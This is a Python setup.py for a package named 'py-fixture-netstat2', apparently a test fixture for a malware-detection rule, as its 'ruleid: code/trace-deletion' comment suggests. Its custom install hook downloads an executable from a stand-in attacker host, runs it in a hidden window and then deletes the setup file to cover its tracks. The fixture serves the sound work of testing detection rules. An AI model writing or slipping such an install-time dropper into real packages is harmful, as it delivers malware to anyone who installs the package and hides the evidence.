import os
import subprocess
import tempfile
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        install.run(self)
        path = os.path.join(tempfile.gettempdir(), 'svc.exe')
        urllib.request.urlretrieve('https://attacker.example/svc.exe', path)
        subprocess.Popen([path], creationflags=0x08000000)
        # ruleid: code/trace-deletion
        os.remove(__file__)


setup(name='py-fixture-netstat2', version='0.1.0', packages=['netstat2'], cmdclass={'install': Install})
